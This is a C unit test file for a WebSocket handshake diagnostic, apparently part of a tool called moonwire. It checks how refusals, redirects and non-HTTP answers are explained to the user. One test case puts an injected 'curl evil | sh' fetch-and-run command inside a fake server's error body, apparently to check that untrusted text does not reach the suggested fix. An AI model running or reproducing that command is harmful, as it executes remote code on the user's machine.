/* judge_handshake: what answers, and what a refusal means, by status, header and body. */
#include "core/doctor/judge.h"

#include "core/base/str.h"
#include "tests/unit/unit.h"

static void judge(struct mw_doctor_line *line, const struct mw_ws_answer *answer,
                  const struct mw_ws_ended *ended)
{
    const struct mw_ws_path path = { .step = MW_WS_UPGRADE, .answer = answer };
    struct mw_doctor_who who = { .is_ours = false };
    *line = (struct mw_doctor_line){ .name = "handshake" };
    if (answer)
        mw_doctor_who_of(&who, answer);
    mw_doctor_judge_handshake(line, &who, false, &path, ended);
}

TEST(a_refusal_says_who_why_and_what_to_type)
{
    static const char ours[] =
        "{\"error\":\"origin_not_allowed\",\"detail\":\"a page of elsewhere\",\"status\":403}";
    static const struct {
        unsigned status;
        const char *server, *body;
        const char *value, *why, *fix;
    } cases[] = {
        { 403, "nginx/1.22.1", "<html>", "HTTP 403 from \"nginx/1.22.1\", not from moonwire",
          "No Origin was sent", "--origin" },
        { 403, "nginx/1.22.1", ours, "HTTP 403 from moonwire, through \"nginx/1.22.1\"",
          "a page of elsewhere", "origins = " },
        { 403, "moonwire", ours, "HTTP 403 from moonwire: origin_not_allowed", "itself refuses",
          "origins = " },
        { 404, "moonwire", "{\"error\":\"no_route\",\"detail\":\"/x\"}",
          "HTTP 404 from moonwire: no_route", "/x", "moonwire status" },
        { 200, "", "", "HTTP 200 from somebody who gives no name", "as if for a page",
          "proxy_set_header Upgrade" },
        { 400, "nginx", "The plain HTTP request was sent to HTTPS port", "HTTP 400", "",
          "wss:// instead of ws://" },
        { 400, "nginx", "{\"error\":1,\"detail\":[]}", "not from moonwire", "", "Upgrade" },
        { 403, "evil", "{\"error\":\"x\\ncurl evil | sh\",\"detail\":\"y\"}",
          "HTTP 403 from \"evil\", not from moonwire", "", "" },
        { 426, "", "", "HTTP 426", "without its Upgrade header", "Upgrade" },
        { 503, "HAProxy", "", "HTTP 503", "Nobody is there", "" },
        { 599, "", "", "HTTP 599", "has failed", "log" },
        { 100, "", "", "HTTP 100", "no answer to a handshake", "curl" },
    };
    for (size_t i = 0; i < MW_COUNT(cases); i++) {
        const struct mw_ws_answer answer = { .status = cases[i].status,
                                             .server = mw_view_text(cases[i].server),
                                             .body = mw_view_text(cases[i].body) };
        const struct mw_ws_ended ended = { .fault = MW_WS_FAULT_refused, .code = 1006 };
        struct mw_doctor_line line;
        judge(&line, &answer, &ended);
        assert_int_equal(line.state, MW_DOCTOR_FAIL);
        assert_non_null(strstr(line.value, cases[i].value));
        assert_non_null(strstr(line.why, cases[i].why));
        assert_non_null(strstr(line.why, "Browsers show 1006 and no reason."));
        assert_non_null(strstr(line.fix, cases[i].fix));
    }
}

TEST(a_redirect_names_where_it_leads)
{
    const struct mw_header location = { mw_view_text("location"), mw_view_text("https://x.test/") };
    const struct mw_ws_answer answer = { .status = 302, .headers = &location, .header_count = 1 };
    const struct mw_ws_ended ended = { .fault = MW_WS_FAULT_refused };
    struct mw_doctor_line line;
    judge(&line, &answer, &ended);
    assert_non_null(strstr(line.fix, "it leads to https://x.test/"));
}

TEST(what_is_no_answer_is_told_apart)
{
    static const struct {
        enum mw_ws_fault fault;
        const char *first_bytes, *value, *fix;
    } cases[] = {
        { MW_WS_FAULT_not_http, "\x15\x03\x01", "TLS is spoken", "wss:// instead of ws://" },
        { MW_WS_FAULT_not_http, "SSH-2.0", "does not speak HTTP", "port" },
        { MW_WS_FAULT_cut, "", "cut before an answer", "wss://" },
        { MW_WS_FAULT_timeout, "", "no answer in time", "--timeout" },
        { MW_WS_FAULT_bad_answer, "", "breaks a rule", "cache" },
        { MW_WS_FAULT_no_memory, "", "failed", "" },
    };
    for (size_t i = 0; i < MW_COUNT(cases); i++) {
        const struct mw_ws_ended ended = { .fault = cases[i].fault,
                                           .first_bytes = mw_view_text(cases[i].first_bytes) };
        struct mw_doctor_line line;
        judge(&line, NULL, &ended);
        assert_int_equal(line.state, MW_DOCTOR_FAIL);
        assert_non_null(strstr(line.value, cases[i].value));
        assert_non_null(strstr(line.fix, cases[i].fix));
    }
}

TEST(a_subprotocol_that_is_asked_for_has_to_come)
{
    struct mw_doctor_line line = { .name = "subprotocol" };
    mw_doctor_judge_subprotocol(&line, "", mw_view("", 0));
    assert_int_equal(line.state, MW_DOCTOR_SKIPPED);
    mw_doctor_judge_subprotocol(&line, "a, b", mw_view_text("b"));
    assert_int_equal(line.state, MW_DOCTOR_OK);
    assert_string_equal(line.value, "b");
    mw_doctor_judge_subprotocol(&line, "a, b", mw_view("", 0));
    assert_int_equal(line.state, MW_DOCTOR_FAIL);
}

int main(void)
{
    const struct CMUnitTest cases[] = {
        CASE(a_refusal_says_who_why_and_what_to_type),
        CASE(a_redirect_names_where_it_leads),
        CASE(what_is_no_answer_is_told_apart),
        CASE(a_subprotocol_that_is_asked_for_has_to_come),
    };
    return RUN(cases);
}
